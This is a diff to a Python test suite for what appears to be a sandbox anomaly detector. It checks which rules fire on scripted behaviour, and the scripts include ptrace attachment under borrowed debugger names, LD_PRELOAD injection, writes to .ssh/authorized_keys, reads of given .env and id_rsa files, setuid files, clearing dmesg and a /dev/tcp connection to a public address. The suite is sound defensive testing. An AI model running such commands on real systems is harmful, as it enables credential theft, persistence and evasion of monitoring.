@@ -65,23 +65,24 @@ def raised(b, script, *args):
 
 def only_a_debugger_of_the_host_may_ask_for_ptrace(b, _):
     own = "cp $(command -v python3) ./gdb && ./gdb -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'"
-    check(raised(b, own) == {"dangerous-syscall"}, "a name is no debugger")
+    check(raised(b, own) == {"refused-call"}, "a name is no debugger")
     check(raised(b, "exec -a strace python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b\"gdb\"); ctypes.CDLL(None).ptrace(16, 1, 0, 0)'")
-          == {"dangerous-syscall"}, "nor is an argument, or what a process calls itself")
+          == {"dangerous-syscall", "refused-call"}, "nor is an argument, or what a process calls itself: the first process")
     for tool in ("gdb -q -batch -ex run /bin/true", "strace -f /bin/true", "ltrace -o x /bin/true"):
         if shutil.which(tool.split()[0]):
             check(raised(b, f"{tool} || true") == set(), tool)
     if shutil.which("strace"):
         check(raised(b, "strace python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)'; python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)'")
-              == {"dangerous-syscall"}, "what runs beside or below a debugger is none")
+              == {"dangerous-syscall", "refused-call"}, "what runs beside or below a debugger is none")
 
 
 def a_process_may_attach_to_its_own_memory_only(b, _):
     build = f"cat > a.c <<'E'\n{OWN_MEMORY}E\ngcc -w -pthread -o a a.c; "
     check(raised(b, build + "./a 16") == set(), "its parent, whose memory it shares")
     check(raised(b, build + "./a 16 -1") == set(), "another thread of its parent")
-    for args, why in (("16 1", "another process"), ("16 0 apart", "its parent, whose memory is another"), ("16902", "another request, PTRACE_SEIZE"), ("0", "PTRACE_TRACEME")):
-        check(raised(b, build + f"./a {args}") == {"dangerous-syscall"}, why)
+    for args, why in (("16 0 apart", "its parent, whose memory is another"), ("16902", "another request, PTRACE_SEIZE"), ("0", "PTRACE_TRACEME")):
+        check(raised(b, build + f"./a {args}") == {"refused-call"}, why)
+    check(raised(b, build + "./a 16 1") == {"dangerous-syscall", "refused-call"}, "the first process")
 
 
 def libraries_are_found_where_a_loader_runs(b, _):
@@ -89,6 +90,8 @@ def libraries_are_found_where_a_loader_runs(b, _):
         check(raised(b, "echo 'int main(void) { return 0; }' > a.c; gcc -o a a.c; valgrind -q ./a") == set(), "valgrind maps the program itself")
     check(raised(b, LIBRARY + "LD_PRELOAD=$PWD/e.so $(ls /lib*/ld-linux-*.so.* | head -1) /bin/ls") == {"preloaded-library"}, "a loader that is executed as a program")
     check(raised(b, LIBRARY + "LD_PRELOAD=$PWD/e.so /bin/ls") == {"preloaded-library"}, "the loader of the program")
+    check(raised(b, LIBRARY + "cp /bin/ls app; for i in 1 2 3; do LD_PRELOAD=$PWD/e.so ./app; done; LD_PRELOAD=$PWD/e.so /bin/true") == {"preloaded-library"}, "an own program, and one of the host")
+    check(raised(b, LIBRARY + "LD_PRELOAD=$PWD/e.so /bin/ls; LD_PRELOAD=$PWD/e.so /bin/true") == {"preloaded-library", "preloaded-programs"}, "two of the host")
 
 
 def a_signal_that_ends_nobody_is_no_storm(b, _):
@@ -101,10 +104,11 @@ def credentials_that_a_job_made_are_its_own(b, _):
     check(raised(b, "umask 077; echo a:b > .pgpass; cat .pgpass; stat .pgpass; echo K=1 > .env; echo L=2 >> .env; cat .env; test -f .env") == set(), "made and read by one job")
     check(raised(b, "mkdir -m 700 .ssh; echo 'Host h' > .ssh/config; cat .ssh/config; ssh-keygen -q -t ed25519 -N '' -f .ssh/id_ed25519; cat .ssh/id_ed25519 .ssh/id_ed25519.pub; "
                     "cat .ssh/id_rsa.pub 2>/dev/null; true") == set(), "a key pair")
-    for script, why in (("echo x > .ssh/authorized_keys", "it lets somebody in"), ("echo x > .ssh/rc", "it is executed"), ("cat .ssh/id_rsa; true", "a key that it did not make"),
-                        ("echo x > .env; ln .env y", "linking"), ("echo x > .env; mv .env y", "moving"), ("mkdir x; mv x .ssh/.ssh", "a folder that may list who may log in"),
-                        ("echo x > y; mv y .ssh/authorized_keys", "the name of a list of who may log in")):
-        check(raised(b, "mkdir -p .ssh; " + script) == {"sensitive-path"}, why)
+    for script, rule, why in (("echo x > .ssh/authorized_keys", "startup-file", "it lets somebody in"), ("echo x > .ssh/rc", "startup-file", "it is executed"),
+                              ("cat .ssh/id_rsa; true", "credential-use", "a key that it did not make"), ("echo x > .env; ln .env y", "credential-use", "linking"),
+                              ("echo x > .env; mv .env y", "credential-use", "moving"), ("mkdir x; mv x .ssh/.ssh", "credential-use", "a folder that may list who may log in"),
+                              ("echo x > y; mv y .ssh/authorized_keys", "startup-file", "the name of a list of who may log in")):
+        check(raised(b, "mkdir -p .ssh; " + script) == {rule}, why)
 
 
 def a_file_that_a_job_made_may_become_a_credential(b, _):
@@ -118,14 +122,14 @@ def a_file_that_a_job_made_may_become_a_credential(b, _):
     box = create(b)
     given(b, box, ".env")
     bash(b, box, "python3 -c 'import ctypes; open(\"y\", \"w\").close(); assert ctypes.CDLL(None).renameat2(-100, b\"y\", -100, b\".env\", 2) == 0'; cat y >/dev/null")
-    check(rules_of(b, box) == {"sensitive-path"}, "exchanging the names moves it away")
+    check(rules_of(b, box) == {"credential-use"}, "exchanging the names moves it away")
     b.cli("rm", box)
     for script, why in (("mv .env x; cat x", "moving"), ("ln .env x; cat x", "linking"), ("mv .env .env.local; mv .env.local .env; cat .env", "moving there and back"), ("rm .env", "removing"),
                         ("echo x > y; cat .env", "another one")):
         box = create(b)
         given(b, box, ".env")
         bash(b, box, script)
-        check(rules_of(b, box) - {"sensitive-look"} == {"sensitive-path"}, f"what was given: {why}: {b.json('anomalies', '--sandbox', box)[1]}")
+        check(rules_of(b, box) - {"sensitive-look"} == {"credential-use"}, f"what was given: {why}: {b.json('anomalies', '--sandbox', box)[1]}")
         b.cli("rm", box)
 
 
@@ -133,11 +137,11 @@ def honest_calls_that_are_refused(b, _):
     if shutil.which("perf"):
         check(raised(b, "perf stat /bin/true 2>/dev/null; true") == set(), "perf")
     own = "cp $(command -v python3) ./perf && ./perf -c 'import ctypes, os; ctypes.CDLL(None).syscall({\"x86_64\": 298, \"aarch64\": 241}[os.uname().machine], 0, 0, -1, -1, 0)'"
-    check(raised(b, own) == {"dangerous-syscall"}, "a name is no perf")
+    check(raised(b, own) == {"refused-call"}, "a name is no perf")
     check(raised(b, "cat /proc/sys/kernel/core_pattern >/dev/null") == set(), "reading what everybody may read")
     check(raised(b, "echo x 2>/dev/null > /proc/sys/kernel/core_pattern; true") == {"sensitive-path"}, "writing to it")
     check(raised(b, "dmesg 2>/dev/null; true") == set(), "reading the log")
-    check(raised(b, "dmesg -C 2>/dev/null; true") == {"dangerous-syscall"}, "clearing it")
+    check(raised(b, "dmesg -C 2>/dev/null; true") == {"dangerous-syscall", "refused-call"}, "clearing it")
 
 
 def given(b, box, path):
@@ -151,7 +155,7 @@ def a_credential_that_was_given_stays_one(b, _):
     bash(b, box, "echo mine > .env; cat .env")
     check(rules_of(b, box) == set(), "its own")
     bash(b, box, "cat .env")
-    check(rules_of(b, box) == {"sensitive-path"}, "of another job")
+    check(rules_of(b, box) == {"credential-use"}, "of another job")
     b.cli("rm", box)
 
     box = create(b)
@@ -169,19 +173,19 @@ def a_credential_that_was_given_stays_one(b, _):
     bash(b, box, "mkdir c")
     given(b, box, "c/.env")
     bash(b, box, "mkdir d; echo mine > d/.env; cat d/.env; mv d e; mv c d; cat d/.env")
-    check(rules_of(b, box) == {"sensitive-path"}, "under the name of an own one, by moving folders")
+    check(rules_of(b, box) == {"credential-use"}, "under the name of an own one, by moving folders")
     b.cli("rm", box)
 
     box = create(b)
     given(b, box, ".env")
     bash(b, box, "ln -s .env id.pub; cat id.pub; for i in $(seq 50); do echo x > w$i; done")
-    check(rules_of(b, box) == {"sensitive-path"}, "a link with the name of a public key")
+    check(rules_of(b, box) == {"credential-use"}, "a link with the name of a public key")
     b.cli("rm", box)
 
     box = create(b)
     given(b, box, ".env")
     bash(b, box, "echo >> .env; cat .env")
-    check(rules_of(b, box) == {"sensitive-path"}, "writing to it does not make it one's own")
+    check(rules_of(b, box) == {"credential-use"}, "writing to it does not make it one's own")
     b.cli("rm", box)
 
 
@@ -194,17 +198,39 @@ def what_the_owner_carries_is_not_done_by_a_job(b, _):
             check(r.returncode == 0, r.stderr)
     check(rules_of(b, box) == set(), f"into the sandbox, and out of it: {b.json('anomalies', '--sandbox', box)[1]}")
     bash(b, box, "cat .env")
-    check(rules_of(b, box) == {"sensitive-path"}, "a job that reads it")
+    check(rules_of(b, box) == {"credential-use"}, "a job that reads it")
     b.cli("rm", box)
 
     box = create(b)
     given(b, box, ".env")
     bash(b, box, "cp /bin/cat stockade-files; exec -a stockade-files ./stockade-files .env")
-    check(rules_of(b, box) == {"sensitive-path"}, "a job with the name of the broker's program")
+    check(rules_of(b, box) == {"credential-use"}, "a job with the name of the broker's program")
     b.cli("rm", box)
 
 
-TESTS = [only_a_debugger_of_the_host_may_ask_for_ptrace, a_process_may_attach_to_its_own_memory_only, libraries_are_found_where_a_loader_runs,
+def found(b, box, rule):
+    return [f for f in b.json("anomalies", "--sandbox", box)[1] if f["rule"] == rule]
+
+
+def evidence_is_logged_and_several_kinds_of_it_are_an_alert(b, _):
+    """Of one job, or of several of a sandbox; a flood of one kind hides no other."""
+    box = create(b)
+    given(b, box, ".env")
+    bash(b, box, "cat .env; mv .env .env.bak; mv .env.bak .env; for i in $(seq 200); do : > r$i; chmod u+s r$i; done; unshare -Ur true || true")
+    until(lambda: found(b, box, "refused-call"), "it is noted")
+    noted = {f["rule"]: f["response"] for f in b.json("anomalies", "--sandbox", box)[1] if f["severity"] != "info"}
+    check(noted.keys() >= {"credential-use", "set-id-file", "refused-call"}, str(noted))
+    check(set(noted.values()) == {"log"}, f"no alert: {b.json('anomalies', '--sandbox', box)[1]}")
+    bash(b, box, "timeout 1 bash -c ': > /dev/tcp/198.51.100.7/443'; true")
+    until(lambda: found(b, box, "credential-connection"), "a credential, and a public address")
+    bash(b, box, "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'; true")
+    until(lambda: found(b, box, "combined-evidence"), "the third kind, of another job")
+    one = found(b, box, "combined-evidence")[0]
+    check(one["response"] == "alert" and all(part in one["text"] for part in ("set-id-file", "refused-call", "refused-socket")), f"it names its parts: {one}")
+    b.cli("rm", box)
+
+
+TESTS = [evidence_is_logged_and_several_kinds_of_it_are_an_alert, only_a_debugger_of_the_host_may_ask_for_ptrace, a_process_may_attach_to_its_own_memory_only, libraries_are_found_where_a_loader_runs,
          a_signal_that_ends_nobody_is_no_storm, credentials_that_a_job_made_are_its_own, a_credential_that_was_given_stays_one,
          a_file_that_a_job_made_may_become_a_credential, honest_calls_that_are_refused,
          what_the_owner_carries_is_not_done_by_a_job]
